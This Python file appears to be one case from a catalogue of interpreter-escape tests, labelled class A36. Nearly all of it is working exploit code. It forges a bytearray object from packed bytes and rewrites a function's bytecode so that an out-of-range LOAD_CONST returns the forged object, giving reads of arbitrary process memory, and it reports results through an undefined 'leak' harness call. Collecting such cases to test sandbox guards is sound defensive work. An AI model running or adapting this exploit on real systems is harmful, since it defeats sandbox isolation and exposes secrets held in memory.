# SPDX-License-Identifier: Apache-2.0
"""A constant read beyond the constants of a function is an object forged from bytes.

class: A36
effect: memory is read at any address
guard: syntax types
"""
import struct

target = b"a secret in memory"
head = struct.pack("nP", 1 << 30, id(bytearray))
forged = head + struct.pack("nnPPn", 1 << 40, 1 << 40, id(target) + 32, id(target) + 32, 0)
pointer = struct.pack("P", id(forged) + 32)


def get():
    return None


consts = (None,)
index = (id(pointer) + 32 - id(consts) - 24) // 8
if 0 < index < 1 << 31:
    ops = [(151, 0)]
    ops += [(144, index >> shift & 255) for shift in (24, 16, 8)]
    ops += [(100, index & 255), (83, 0)]
    code = b"".join(bytes(op) for op in ops)
    get.__code__ = get.__code__.replace(co_code=code, co_consts=consts, co_stacksize=1)
    if bytes(get()[:18]) == target:
        leak(leak)
    leak(get.__code__)
leak((lambda: 0).__code__)
